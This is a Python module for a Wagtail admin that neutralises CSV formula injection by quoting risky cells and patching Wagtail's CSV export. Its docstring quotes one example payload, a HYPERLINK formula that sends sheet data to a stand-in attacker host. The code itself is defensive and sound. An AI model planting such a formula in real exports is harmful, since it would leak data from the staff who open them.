"""CSV exports that a spreadsheet opens as text, never as formulas (OWASP's "CSV injection").

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula: a visitor who signs a form as `=HYPERLINK("http://evil.example/?"
&A1,"click")` would have the staff member who opens the export send the sheet's data away, or
run a command through DDE. Such cells get a leading single quote, which makes them text and
leaves them readable. Plain numbers ("-5", "+15550100") are left alone: they compute nothing.

Every CSV the admin offers goes through `spreadsheet_safe`: ours (the translation status report)
directly, Wagtail's (form submissions, reports, redirects, snippet listings) through
`SpreadsheetExportMixin.stream_csv`, replaced in `protect_wagtail_csv_exports`. Wagtail's XLSX
exports store every value as a typed cell and turn formulas back into text themselves.
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def spreadsheet_safe(value):
    """`value`, with a single quote in front if a spreadsheet would read it as a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SafeDictWriter(csv.DictWriter):
    """csv.DictWriter whose every cell, headings included, goes through spreadsheet_safe."""

    def writerow(self, rowdict):
        return super().writerow({key: spreadsheet_safe(value) for key, value in rowdict.items()})


def protect_wagtail_csv_exports():
    """Make every CSV export of Wagtail's admin write through SafeDictWriter.

    Wagtail 8.0's `SpreadsheetExportMixin.stream_csv` writes the values as they are (its XLSX
    export alone defuses formulas): this is its code with our writer. The tests of the form
    submissions and report exports fail if Wagtail stops calling it."""
    from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

    def stream_csv(self, queryset):
        writer = SafeDictWriter(Echo(), fieldnames=self.list_export)
        yield writer.writerow(
            {field: self.get_heading(queryset, field) for field in self.list_export}
        )
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    stream_csv.__doc__ = SpreadsheetExportMixin.stream_csv.__doc__
    SpreadsheetExportMixin.stream_csv = stream_csv
